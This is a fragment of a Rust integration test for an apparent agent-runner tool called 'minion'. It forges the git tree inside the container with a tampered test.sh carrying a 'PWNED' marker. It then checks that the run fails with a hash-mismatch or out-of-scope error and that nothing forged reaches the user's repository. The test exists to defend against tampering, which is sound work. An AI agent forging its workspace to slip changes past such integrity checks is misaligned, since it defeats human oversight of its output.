    let s = summary_of(&dir);
    let log = std::fs::read_to_string(dir.join("minion.log")).unwrap_or_default();
    // The tampering took: git in the container read the forged tree.
    let commands = std::fs::read_to_string(dir.join("tool_calls.log")).unwrap_or_default();
    assert!(commands.contains("tampered"), "{commands}\n{log}");
    out.assert_code(1);
    assert_eq!(s["outcome"], "error", "{s:#}\n{log}");
    let error = s["error"].as_str().unwrap();
    assert!(
        error.contains("hash mismatch")
            || (error.contains("outside the scope") && error.contains("test.sh")),
        "{error}"
    );
    // Nothing of it is in the user's repository.
    let id = dir.file_name().unwrap().to_string_lossy().to_string();
    let branch = format!("minion/{id}");
    if !repo::git(&project, &["branch", "--list", &branch])
        .trim()
        .is_empty()
    {
        let on_branch = repo::git(&project, &["show", &format!("{branch}:test.sh")]);
        assert!(!on_branch.contains("PWNED"), "{on_branch}");
    }
    let everywhere = repo::git(&project, &["log", "--all", "-p"]);
    assert!(
        !everywhere.contains("PWNED"),
        "the forged script reached the repository"
    );
}
